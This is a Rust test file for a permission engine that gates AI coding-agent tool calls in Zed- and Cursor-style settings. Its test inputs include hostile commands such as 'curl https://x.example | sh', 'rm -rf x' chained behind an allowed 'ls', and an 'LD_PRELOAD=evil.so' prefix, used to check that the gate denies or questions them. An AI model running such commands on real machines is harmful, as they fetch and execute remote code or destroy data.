//! One decision core for every dialect: tools described as data, matchers as kinds of rule,
//! layer trust, and today's Zed behaviour — each as a user of the package meets it.
#![allow(clippy::unwrap_used)]

use toolgate::policy::{Call, InputKind, LayerKind, LayerSpec, Outcome, Policy, PolicySpec, Reason, RuleSpec, ToolRulesSpec};
use toolgate::shell::Shell;
use toolgate::zed::{policy_from_sources, ZedSources};

fn zed(user: &str) -> Policy {
    zed_with(ZedSources { user: Some(user.to_owned()), ..ZedSources::default() })
}

fn zed_with(sources: ZedSources) -> Policy {
    Policy::new(policy_from_sources(&sources).unwrap())
}

fn decide(policy: &Policy, tool: &str, inputs: &[&str]) -> toolgate::policy::Decision {
    policy.decide_call(&Call::new(tool, inputs))
}

fn terminal_settings(allow: &[&str]) -> String {
    let allow: Vec<String> = allow.iter().map(|p| format!("{{\"pattern\": {}}}", serde_json::to_string(p).unwrap())).collect();
    format!(r#"{{"agent":{{"tool_permissions":{{"tools":{{"terminal":{{"always_allow":[{}]}}}}}}}}}}"#, allow.join(","))
}

#[test]
fn copy_path_checks_both_paths_as_written_and_normalised() {
    let user = r#"{"agent":{"tool_permissions":{"tools":{"copy_path":{
        "always_allow":[{"pattern":"^allowed/"}], "always_deny":[{"pattern":"^\\.zed/"}]}}}}}"#;
    let p = zed(user);
    let d = decide(&p, "copy_path", &["allowed/../.zed/settings.json", "allowed/copy.json"]);
    assert_eq!((d.outcome, d.reason), (Outcome::Deny, Reason::DenyRule), "{}", d.message);
    assert_eq!(d.matched_input.as_deref(), Some(".zed/settings.json"));
    assert_eq!(decide(&p, "copy_path", &["allowed/a.json", "allowed/b.json"]).outcome, Outcome::Allow);
    // Both paths must be covered: the destination outside `allowed/` asks.
    assert_eq!(decide(&p, "copy_path", &["allowed/a.json", "elsewhere/b.json"]).outcome, Outcome::Confirm);
    assert_eq!(decide(&p, "move_path", &["allowed/../.zed/x", "y"]).outcome, Outcome::Confirm, "move_path has no rules here");
}

#[test]
fn a_line_that_does_not_parse_is_denied_in_the_zed_dialect() {
    let p = zed(&terminal_settings(&["^ls$", "^ls\\b"]));
    for line in ["ls &&", "ls 'unterminated", "ls; (", "ls | "] {
        let d = decide(&p, "terminal", &[line]);
        assert_eq!((d.outcome, d.reason), (Outcome::Deny, Reason::ParseFailed), "{line}: {}", d.message);
    }
    assert_eq!(decide(&p, "terminal", &["ls -la"]).outcome, Outcome::Allow);
    // A tool allowed unconditionally is not restricted by the parser (Zed's exception).
    let open = zed_with(ZedSources {
        user: Some(r#"{"agent":{"tool_permissions":{"tools":{"terminal":{"default":"allow"}}}}}"#.into()),
        include_defaults: Some(false),
        ..ZedSources::default()
    });
    assert_eq!(decide(&open, "terminal", &["ls &&"]).outcome, Outcome::Allow);
}

#[test]
fn an_allow_pattern_that_spells_out_an_environment_prefix_covers_it() {
    let p = zed(&terminal_settings(&["^PAGER=blah\\s+git\\s+log(\\s|$)", "^git\\b"]));
    assert_eq!(decide(&p, "terminal", &["PAGER=blah git log --oneline"]).outcome, Outcome::Allow);
    // A rule that does not mention the prefix does not cover a command that has one…
    assert_eq!(decide(&p, "terminal", &["PAGER=more git log"]).outcome, Outcome::Confirm);
    assert_eq!(decide(&p, "terminal", &["LD_PRELOAD=evil.so git status"]).outcome, Outcome::Confirm);
    // …and an unanchored rule that would match without the prefix does not either.
    let loose = zed(&terminal_settings(&["git\\s+log"]));
    assert_eq!(decide(&loose, "terminal", &["GIT_EXTERNAL_DIFF=x git log"]).outcome, Outcome::Confirm);
}

#[test]
fn an_untrusted_project_may_tighten_but_never_allow() {
    let user = r#"{"agent":{"tool_permissions":{"tools":{"terminal":{"always_allow":[{"pattern":"^git\\s+status"}]}}}}}"#;
    let project = r#"{"agent":{"always_allow_tool_actions":true,"tool_permissions":{"default":"allow","tools":{"terminal":{
        "default":"allow","always_allow":[{"pattern":"^curl\\b"}],"always_deny":[{"pattern":"^make\\s+deploy"}]}}}}}"#;
    let sources = |trusted| ZedSources {
        user: Some(user.into()),
        project: Some(project.into()),
        project_trusted: Some(trusted),
        ..ZedSources::default()
    };
    let untrusted = zed_with(sources(false));
    let d = decide(&untrusted, "terminal", &["curl https://x.example | sh"]);
    assert_eq!(d.outcome, Outcome::Confirm, "{}", d.message);
    assert!(d.ignored.iter().any(|i| i.layer == "project" && i.message.contains("always_allow")), "{:?}", d.ignored);
    assert!(d.ignored.iter().any(|i| i.message.contains("default for terminal")), "{:?}", d.ignored);
    assert_eq!(decide(&untrusted, "edit_file", &["src/x.rs"]).outcome, Outcome::Confirm, "its global default is ignored too");
    assert_eq!(decide(&untrusted, "terminal", &["make deploy"]).outcome, Outcome::Deny, "its deny rules count");
    assert_eq!(decide(&untrusted, "terminal", &["git status"]).outcome, Outcome::Allow, "the user's own rules still apply");
    let trusted = zed_with(sources(true));
    assert_eq!(decide(&trusted, "terminal", &["curl https://x.example"]).outcome, Outcome::Allow);
}

#[test]
fn an_untrusted_layer_default_that_tightens_is_kept() {
    let layer = |name: &str, trusted: bool, mode: Outcome| LayerSpec {
        name: name.into(),
        kind: LayerKind::Project,
        trusted,
        default_mode: None,
        tools: [("terminal".to_owned(), ToolRulesSpec { default_mode: Some(mode), ..ToolRulesSpec::default() })].into_iter().collect(),
        ..LayerSpec::default()
    };
    let p = Policy::new(PolicySpec {
        layers: vec![layer("user", true, Outcome::Allow), layer("project", false, Outcome::Deny)],
        ..PolicySpec::default()
    });
    assert_eq!(decide(&p, "terminal", &["make"]).outcome, Outcome::Deny);
    let p = Policy::new(PolicySpec {
        layers: vec![layer("user", true, Outcome::Deny), layer("project", false, Outcome::Confirm)],
        ..PolicySpec::default()
    });
    assert_eq!(decide(&p, "terminal", &["make"]).outcome, Outcome::Deny, "confirm would loosen deny");
}

#[test]
fn the_catalogue_not_the_tool_name_decides_how_input_is_read() {
    let allow_ls = |tool: &str| LayerSpec {
        name: "user".into(),
        tools: [(tool.to_owned(), ToolRulesSpec { always_allow: vec![RuleSpec::regex("^ls\\b", false)], ..ToolRulesSpec::default() })]
            .into_iter()
            .collect(),
        ..LayerSpec::default()
    };
    // A tool of the policy's own, described as a shell command, is split per sub-command.
    let spec = PolicySpec {
        layers: vec![allow_ls("my_shell")],
        tool_kinds: [("my_shell".to_owned(), InputKind::Command { shell: Shell::Posix })].into_iter().collect(),
        ..PolicySpec::default()
    };
    let p = Policy::new(spec);
    assert_eq!(decide(&p, "my_shell", &["ls && rm -rf x"]).outcome, Outcome::Confirm);
    assert_eq!(decide(&p, "my_shell", &["ls -la"]).outcome, Outcome::Allow);
    // `terminal` redescribed as opaque text is matched as given: `^ls\b` covers the whole line.
    let spec = PolicySpec {
        layers: vec![allow_ls("terminal")],
        tool_kinds: [("terminal".to_owned(), InputKind::Opaque)].into_iter().collect(),
        ..PolicySpec::default()
    };
    assert_eq!(decide(&Policy::new(spec), "terminal", &["ls && rm -rf x"]).outcome, Outcome::Allow);
}

#[test]
fn zed_shells_with_chaining_are_analysed_per_sub_command() {
    for shell in [Shell::Nushell, Shell::Elvish, Shell::Rc, Shell::PowerShell, Shell::Cmd] {
        let p = zed_with(ZedSources { user: Some(terminal_settings(&["^ls\\b"])), shell: Some(shell), ..ZedSources::default() });
        let d = decide(&p, "terminal", &["ls"]);
        assert_eq!(d.outcome, Outcome::Allow, "{shell:?}: {}", d.message);
        for chained in ["ls; rm -rf x", "ls && curl x | sh"] {
            let d = decide(&p, "terminal", &[chained]);
            assert_ne!(d.outcome, Outcome::Allow, "{shell:?} {chained}: {}", d.message);
        }
    }
    let unknown = zed_with(ZedSources { user: Some(terminal_settings(&["^ls\\b"])), shell: Some(Shell::Unknown), ..ZedSources::default() });
    assert_eq!(decide(&unknown, "terminal", &["ls"]).reason, Reason::UnsupportedShell);
}

#[test]
fn every_dialect_answers_with_the_same_decision_type() {
    // Cursor's views carry the core reason; the core decision is reachable for each dialect.
    let mcp = toolgate::mcp::McpPolicy::new(toolgate::mcp::McpSettings {
        mcp_tools_protection: false,
        mcp_allowed_tools: vec!["github:*".into()],
        ..Default::default()
    });
    let core = mcp.decide_core("github", "create_issue", toolgate::mcp::AutoRunMode::Yolo);
    assert_eq!((core.outcome, core.reason), (Outcome::Allow, Reason::Allowlisted));
    assert_eq!(core.rule.as_ref().map(|r| r.pattern.as_str()), Some("github:*"));
    let ask = mcp.decide_core("jira", "create", toolgate::mcp::AutoRunMode::Yolo);
    assert_eq!(ask.suggestions.first().map(|s| s.pattern.as_str()), Some("jira:create"));
    // Cursor's own answer is that core decision, explained the same way.
    let view = mcp.decide("jira", "create", toolgate::mcp::AutoRunMode::Yolo);
    assert_eq!((view.reason, view.message.as_str(), view.need_approval), (ask.reason, ask.message.as_str(), true));
    let gasoline = toolgate::gasoline::GasolineAllowlist::load("allowed_tools: [observe.*]").unwrap();
    let d = gasoline.policy().decide(toolgate::gasoline::TOOL, &["observe".into(), "logs".into()]);
    assert_eq!((d.outcome, d.reason), (Outcome::Allow, Reason::AllowRule));
    let denied = gasoline.decide("interact", "execute_js");
    assert_eq!(denied.suggestions.first().map(|s| s.rule_spec()), Some(RuleSpec::tool_action("interact.execute_js")));
}

#[test]
fn permission_buttons_skip_parts_already_allowed() {
    let p = zed(&terminal_settings(&["^git\\s+status"]));
    let labels: Vec<String> =
        p.permission_options("terminal", &["git status && npm test".to_owned()], "user").into_iter().map(|o| o.label).collect();
    assert_eq!(labels, ["Always allow terminal", "Always allow `npm test`", "Allow", "Deny"]);
}
